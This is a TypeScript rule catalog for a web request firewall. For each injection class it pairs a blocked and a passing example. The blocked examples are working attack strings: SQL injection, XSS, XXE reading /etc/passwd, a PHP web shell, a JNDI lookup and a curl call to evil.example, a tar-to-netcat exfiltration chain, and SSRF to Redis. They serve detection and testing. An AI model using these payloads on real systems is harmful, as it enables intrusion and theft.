/**
 * The catalog of the request firewall. The IDs are part of the API: an ID is never reused, and the ID of a removed rule
 * stays unused. `npm run docs` generates docs/api/firewall.md from this file. A test runs both examples of each rule,
 * and vectors/attack-cost generates hostile texts from each pattern.
 */
import { CHAINS, CODE, OBJECTS, PROSE_CODE, SUBSTITUTIONS } from './commands.ts';
import type { Pattern } from './pattern.ts';
import {
  DOT_SEGMENTS,
  FILE_NAME_TRAVERSALS,
  HIDDEN_FILES,
  PROSE_TRAVERSALS,
  SYSTEM_FILES,
  TRAVERSALS,
} from './paths.ts';
import type { Place } from './place.ts';
import {
  CONTROLS,
  FILTERS,
  HEADER_PROTOCOLS,
  OPERATORS,
  PROSE_SPLITS,
  PROTOCOLS,
  SPLITS,
  VALUE_OPERATORS,
  ZERO_BYTES,
} from './protocol.ts';
import {
  ATTRIBUTES,
  ELEMENTS,
  ENTITIES,
  PROSE_ELEMENTS,
  PROSE_ENTITIES,
  PROSE_SCRIPT_TAGS,
  PROSE_URLS,
  SCRIPT_STRINGS,
  SCRIPT_TAGS,
  SCRIPT_URLS,
} from './script.ts';
import {
  BREAKOUTS,
  CUT_OFFS,
  FUNCTIONS,
  PROSE_BREAKOUTS,
  PROSE_STATEMENTS,
  PROSE_UNIONS,
  STATEMENTS,
  UNIONS,
} from './sql.ts';
import { EXPRESSIONS, LOOKUPS, PROSE_LOOKUPS } from './templates.ts';

export type Severity = 'critical' | 'high' | 'medium' | 'low';

export type Rule = {
  readonly id: string;
  readonly severity: Severity;
  readonly finds: string;
  readonly blocked: Example;
  readonly passes: Example;
  /** The patterns for each place. The rule does not inspect places without patterns. */
  readonly patterns: Partial<Record<Place, readonly Pattern[]>>;
  /**
   * The rule's patterns for prose match only a whole string, so it does not matter whether the string reads like a
   * sentence.
   */
  readonly isWhole?: true;
  /** Only strings with at least one of these characters are inspected. If omitted, every string is inspected. */
  readonly needs?: string;
  /** In prose and file names, the rule only applies if the text contains at least one character of each group. */
  readonly proseNeeds?: readonly string[];
};

type Example = { readonly place: Place | 'agent'; readonly text: string };

const strict = (text: string): Example => ({ place: 'strict', text });
const prose = (text: string): Example => ({ place: 'prose', text });

const machine = (own: readonly Pattern[]) => ({ strict: own, path: own, header: own, key: own });
const written = (own: readonly Pattern[]) => ({ prose: own, 'file-name': own });

export const RULES = [
  {
    id: 'sql-union',
    severity: 'critical',
    finds: 'A `UNION SELECT` statement with columns.',
    blocked: strict("'+UNION+SELECT+1,2,3--+"),
    passes: prose('Union Select Committee: minutes of 3 May'),
    patterns: { ...machine(UNIONS), ...written(PROSE_UNIONS) },
    isWhole: true,
    proseNeeds: ['-#*'],
  },
  {
    id: 'sql-statement',
    severity: 'critical',
    finds: 'A second statement after a semicolon, or a complete statement.',
    blocked: prose("x'; DROP TABLE users; --"),
    passes: prose('SELECT * FROM t;'),
    patterns: { ...machine(STATEMENTS), ...written(PROSE_STATEMENTS) },
    isWhole: true,
    proseNeeds: ['\'"`', ';', '-#*'],
  },
  {
    id: 'sql-function',
    severity: 'high',
    finds: 'SQL functions and tables that payloads use to wait, to read files or to return data.',
    blocked: strict('extractvalue(1, concat(0x7e, version()))'),
    passes: prose('How to sleep (8 hours) before the benchmark'),
    patterns: machine(FUNCTIONS),
    needs: '(@._$',
  },
  {
    id: 'sql-breakout',
    severity: 'critical',
    finds:
      'SQL that breaks out of a value and continues the statement: a condition, a clause or an operator after a quote, a number or a parenthesis.',
    blocked: strict("x' OR email LIKE '%@%"),
    passes: prose("' OR 1=1"),
    patterns: { ...machine(BREAKOUTS), ...written(PROSE_BREAKOUTS) },
    isWhole: true,
    proseNeeds: ['\'"`', '-#*='],
  },
  {
    id: 'sql-comment',
    severity: 'high',
    finds: 'A quote followed by a comment that cuts off the rest of a statement.',
    blocked: strict("admin'--"),
    passes: prose("admin'--"),
    patterns: machine(CUT_OFFS),
    needs: '\'"`)-#/',
  },
  {
    id: 'script-tag',
    severity: 'critical',
    finds:
      'A script element. In prose fields, the rule matches only an element with active code or an external source.',
    blocked: prose('<script>alert(1)</script>'),
    passes: prose('Training: the <script> element in HTML'),
    patterns: { ...machine(SCRIPT_TAGS), ...written(PROSE_SCRIPT_TAGS) },
    needs: '<',
    proseNeeds: ['<', '(=.'],
  },
  {
    id: 'script-element',
    severity: 'high',
    finds:
      'An HTML element. In prose fields, the rule matches only an element that runs code through an event handler or its URL.',
    blocked: prose('<img src=x onerror=alert(1)>'),
    passes: prose('Prices <500 EUR, see <b>Annex A</b> and <anna@example.com>'),
    patterns: { ...machine(ELEMENTS), ...written(PROSE_ELEMENTS) },
    needs: '<-]',
    proseNeeds: ['<', '='],
  },
  {
    id: 'script-attribute',
    severity: 'high',
    finds: 'An event handler that a value adds to an element.',
    blocked: strict('" onmouseover="alert(1)'),
    passes: prose('"Based on": the offer, on site = at the customer\'s'),
    patterns: machine(ATTRIBUTES),
    needs: '=',
  },
  {
    id: 'script-url',
    severity: 'high',
    finds: 'A URL that contains a script, such as `javascript:`, `vbscript:` or `data:text/html`.',
    blocked: prose('javascript:alert(document.cookie)'),
    passes: prose('JavaScript: The Good Parts'),
    patterns: { ...machine(SCRIPT_URLS), ...written(PROSE_URLS) },
    needs: ':&',
    proseNeeds: [':', '(=.'],
  },
  {
    id: 'script-string',
    severity: 'high',
    finds: 'Script calls and properties that run code or access cookies and pages.',
    blocked: strict("';alert(1)//"),
    passes: prose('alert(ed)'),
    patterns: machine(SCRIPT_STRINGS),
    needs: '(`=[.@-',
  },
  {
    id: 'xml-entity',
    severity: 'high',
    finds: 'An XML document type or entity. In prose fields, the rule matches only an entity that reads a file.',
    blocked: prose('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    passes: prose('Entity <Holding> and its system <draft>'),
    patterns: { ...machine(ENTITIES), ...written(PROSE_ENTITIES) },
    needs: '<',
    proseNeeds: ['<', '"\''],
  },
  {
    id: 'path-traversal',
    severity: 'high',
    finds:
      'A path that leads out of its folder. In prose fields, the rule matches only a complete path to a system file.',
    blocked: strict('.../.../win.ini'),
    passes: prose('See ../../Schedule 2'),
    patterns: {
      ...machine(TRAVERSALS),
      path: DOT_SEGMENTS,
      prose: PROSE_TRAVERSALS,
      'file-name': FILE_NAME_TRAVERSALS,
    },
    needs: './\\',
    proseNeeds: ['.:', '/\\:'],
  },
  {
    id: 'path-system-file',
    severity: 'high',
    finds: 'The path of a system or application file.',
    blocked: strict('/etc/./passwd'),
    passes: prose('/etc/passwd'),
    patterns: { strict: SYSTEM_FILES, header: SYSTEM_FILES, key: SYSTEM_FILES },
    needs: '/\\.:~_',
  },
  {
    id: 'path-hidden',
    severity: 'medium',
    finds:
      'A request for files and folders that begin with a dot (except `/.well-known`), and for private files of other server software.',
    blocked: { place: 'path', text: '/app/.env' },
    passes: { place: 'path', text: '/.well-known/security.txt' },
    patterns: { path: HIDDEN_FILES },
  },
  {
    id: 'control-character',
    severity: 'high',
    finds: 'A zero byte in encoded text and, in strict fields, any other control character.',
    blocked: { place: 'file-name', text: 'contract.php%00.pdf' },
    passes: { place: 'file-name', text: 'contract 100%.pdf' },
    patterns: { ...machine(CONTROLS), 'file-name': ZERO_BYTES },
  },
  {
    id: 'command-substitution',
    severity: 'critical',
    finds: 'A shell command in place of a value: `$(…)`, backticks, `<(…)`, `${IFS}`.',
    blocked: strict('$(curl http://evil.example/x)'),
    passes: prose('Introduction to shells: `ls`, `cd` and `rm` in one day'),
    patterns: machine(SUBSTITUTIONS),
    needs: '$`<>',
  },
  {
    id: 'command-chain',
    severity: 'critical',
    finds:
      "A shell command after another command and `;`, `|`, `&` or a line break. In prose fields, the rule matches only a command that reads the system's passwords.",
    blocked: strict('; tar cf - / | nc host 80'),
    passes: prose('report.pdf; rm -rf dist'),
    patterns: machine(CHAINS),
    needs: ';|&\n\r`$</>- ',
  },
  {
    id: 'command-code',
    severity: 'critical',
    finds:
      'Code that a server would run: Bash functions in variables, server-side includes, PHP, calls to `system` and similar functions. In prose fields, the rule matches only web shells and reverse shells.',
    blocked: prose("<?php system($_GET['cmd']); ?>"),
    passes: prose('The system (as delivered) may exec changes'),
    patterns: { ...machine(CODE), ...written(PROSE_CODE) },
    needs: '(<_.#>$%`;',
    proseNeeds: ['<(;|&`\n>'],
  },
  {
    id: 'command-object',
    severity: 'high',
    finds: 'Serialized objects that run code when deserialized, and spreadsheet formulas that start programs.',
    blocked: strict('O:8:"Evil_Obj":1:{s:3:"cmd";s:2:"id";}'),
    passes: prose('= 5 % of the total, type: "A"'),
    patterns: machine(OBJECTS),
  },
  {
    id: 'template-expression',
    severity: 'critical',
    finds: 'A template engine expression.',
    blocked: strict('{{7*7}}'),
    passes: prose('{{7*7}} template note'),
    patterns: machine(EXPRESSIONS),
  },
  {
    id: 'lookup-jndi',
    severity: 'critical',
    finds: 'A lookup that a logger would execute: `${jndi:…}` in any spelling.',
    blocked: prose('${${lower:j}ndi:ldap://evil.example/a}'),
    passes: prose('Total: ${price} per ${unit}'),
    patterns: { ...machine(LOOKUPS), ...written(PROSE_LOOKUPS) },
    needs: '$:',
    proseNeeds: ['$', '{', ':'],
  },
  {
    id: 'header-split',
    severity: 'high',
    finds: 'A line break followed by an HTTP or e-mail header.',
    blocked: strict('contract%0d%0aSet-Cookie: session=1'),
    passes: prose('Dear Anna,\r\nSubject: our offer\r\nLocation: Berlin'),
    patterns: { ...machine(SPLITS), ...written(PROSE_SPLITS) },
    needs: '\r\n\u2028\u560a\u560d',
    proseNeeds: ['\r\n', ':'],
  },
  {
    id: 'header-misuse',
    severity: 'medium',
    finds:
      'Headers in a form that proxies and servers read differently (lengths, encodings, hosts, connections, ranges), and headers that only attackers send to this server.',
    blocked: { place: 'header', text: 'Transfer-Encoding: xchunked' },
    passes: { place: 'header', text: 'Transfer-Encoding: chunked' },
    patterns: {},
  },
  {
    id: 'protocol-abuse',
    severity: 'high',
    finds:
      'URLs with protocols that make a server read local files or call internal services, and URLs of cloud metadata services.',
    blocked: strict('gopher://127.0.0.1:6379/_FLUSHALL'),
    passes: prose('About the file: see https://example.com/a and ftp access'),
    patterns: { ...machine(PROTOCOLS), header: HEADER_PROTOCOLS },
    needs: ':.x/9',
  },
  {
    id: 'ldap-filter',
    severity: 'medium',
    finds: 'An LDAP filter that is closed and followed by another one.',
    blocked: strict('*)(uid=*))(|(uid=*'),
    passes: prose('Costs (a)(b) = 5 * (c)'),
    patterns: machine(FILTERS),
    needs: '*(',
  },
  {
    id: 'operator-key',
    severity: 'medium',
    finds: "A document database operator, or an object's prototype, as the name of a property or parameter.",
    blocked: { place: 'key', text: '$ne' },
    passes: { place: 'key', text: 'amount_in_$' },
    patterns: {
      strict: VALUE_OPERATORS,
      path: VALUE_OPERATORS,
      header: VALUE_OPERATORS,
      key: [...OPERATORS, ...VALUE_OPERATORS],
    },
    needs: '$_.[@!c',
  },
  {
    id: 'encoding-double',
    severity: 'medium',
    finds: 'In strict fields, a significant character or an attack that is encoded twice.',
    blocked: strict('%253Cscript%253Ealert(1)%253C/script%253E'),
    passes: prose('Save 20%25 with https://example.com/?a=b%20c'),
    // This rule has no patterns, because judge.ts finds it while it decodes the text.
    patterns: {},
  },
  {
    id: 'encoding-overlong',
    severity: 'high',
    finds: 'UTF-8 that uses more bytes than necessary to hide a character.',
    blocked: strict('..%c0%af..%c0%afetc'),
    passes: strict('Caf%C3%A9'),
    patterns: {},
  },
  {
    id: 'too-complex',
    severity: 'medium',
    finds: 'The text of a request exceeds the inspection limit.',
    blocked: strict('x '.repeat(60_000)),
    passes: strict('x'.repeat(200)),
    patterns: {},
  },
  {
    id: 'scanner-agent',
    severity: 'medium',
    finds: 'The user agent of a vulnerability scanner.',
    blocked: { place: 'agent', text: 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
    passes: { place: 'agent', text: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
    patterns: {},
  },
] as const satisfies readonly Rule[];

export type RuleId = (typeof RULES)[number]['id'];
